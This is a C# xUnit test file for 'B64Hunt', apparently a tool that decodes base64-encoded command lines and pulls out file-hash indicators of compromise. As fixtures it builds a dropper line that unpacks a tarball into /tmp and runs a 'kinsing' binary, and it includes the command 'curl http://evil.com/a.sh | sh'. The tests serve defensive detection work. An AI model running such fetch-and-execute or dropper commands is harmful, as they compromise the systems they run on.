using System.Linq;
using System.Management.Automation;
using System.Management.Automation.Runspaces;
using B64Hunt.Commands;
using B64Hunt.Iocs;
using B64Hunt.Model;
using Xunit;
using static B64Hunt.Tests.Decoding.Payloads;

namespace B64Hunt.Tests.Decoding
{
    /// <summary>Get-B64Command's binary metadata reaches the event, and Find-B64Ioc emits each binary payload's and member's SHA-256.</summary>
    public class PayloadHashIocTests
    {
        private static PowerShell NewShell()
        {
            var iss = InitialSessionState.CreateDefault2();
            iss.Commands.Add(new SessionStateCmdletEntry("Get-B64Command", typeof(GetB64CommandCommand), null));
            iss.Commands.Add(new SessionStateCmdletEntry("Find-B64Ioc", typeof(FindB64IocCommand), null));
            return PowerShell.Create(iss);
        }

        [Fact]
        public void DroppedElfInATarballBecomesHashIndicators()
        {
            byte[] elf = Payloads.Elf(true, true, 2, 0x3e);
            byte[] script = Utf8("#!/bin/sh\n/tmp/kinsing &\n");
            byte[] tar = Payloads.Tar(("kinsing", elf), ("run.sh", script));
            string line = "echo " + B64(Gzip(tar)) + " | base64 -d | tar xz -C /tmp && sh /tmp/run.sh";
            using var ps = NewShell();
            ps.AddCommand("Get-B64Command").AddParameter("CommandLine", line);
            var events = ps.Invoke().Select(o => (CommandEvent)o.BaseObject).ToList();
            Assert.False(ps.HadErrors);

            var archive = events.Single(e => e.Depth == 0);
            Assert.Equal("tar", archive.FileType);
            Assert.Equal(tar.Length, archive.Size);
            Assert.Equal(64, archive.Sha256.Length);
            Assert.Equal(32, archive.Md5.Length);
            Assert.Equal(40, archive.Sha1.Length);
            Assert.Equal(new[] { "kinsing", "run.sh" }, archive.ArchiveMembers.Select(m => m.Name));
            var member = events.Single(e => e.ArchiveMemberName == "run.sh");
            Assert.Equal("shell script", member.FileType);
            Assert.Equal(1, member.Depth);

            ps.Commands.Clear();
            ps.AddCommand("Find-B64Ioc").AddParameter("Expand").AddParameter("InputObject", events.Cast<object>().ToArray());
            var rows = ps.Invoke().Select(o => (Ioc)o.BaseObject).Where(i => i.Type == IocTypeNames.Sha256Hash).ToList();
            string elfHash = archive.ArchiveMembers[0].Sha256;
            Assert.Contains(rows, r => r.Normalized == archive.Sha256 && r.Event == events[0]);
            Assert.Contains(rows, r => r.Normalized == elfHash);
            Assert.Contains(rows, r => r.Normalized == member.Sha256 && ReferenceEquals(r.Event, member));
        }

        [Fact]
        public void TextPayloadsGiveNoHashIndicator()
        {
            var commandEvent = new CommandEvent { CommandLine = "x", DecodedCommand = "curl http://evil.com/a.sh | sh" };
            var found = IocTestSupportExtractor().AddTo(commandEvent);
            Assert.DoesNotContain(found, i => i.Type == IocTypeNames.Sha256Hash);
        }

        [Fact]
        public void HashIndicatorsFollowTheTypeFilter()
        {
            var commandEvent = new CommandEvent
            {
                CommandLine = "x", DecodedCommand = "\\x7fELF", IsBinary = true, FileType = "ELF 64-bit LSB executable, x86-64",
                Sha256 = new string('a', 64),
            };
            Assert.Empty(IocTestSupportExtractor().AddTo(commandEvent, IocTypes.Ipv4));
            var ioc = Assert.Single(IocTestSupportExtractor().AddTo(new CommandEvent
            {
                CommandLine = "x", DecodedCommand = "\\x7fELF", IsBinary = true, Sha256 = new string('b', 64),
            }, IocTypes.Sha256Hash));
            Assert.Equal(new string('b', 64), ioc.Normalized);
        }

        private static IocExtractor IocTestSupportExtractor() => B64Hunt.Tests.Iocs.IocTestSupport.Extractor;
    }
}
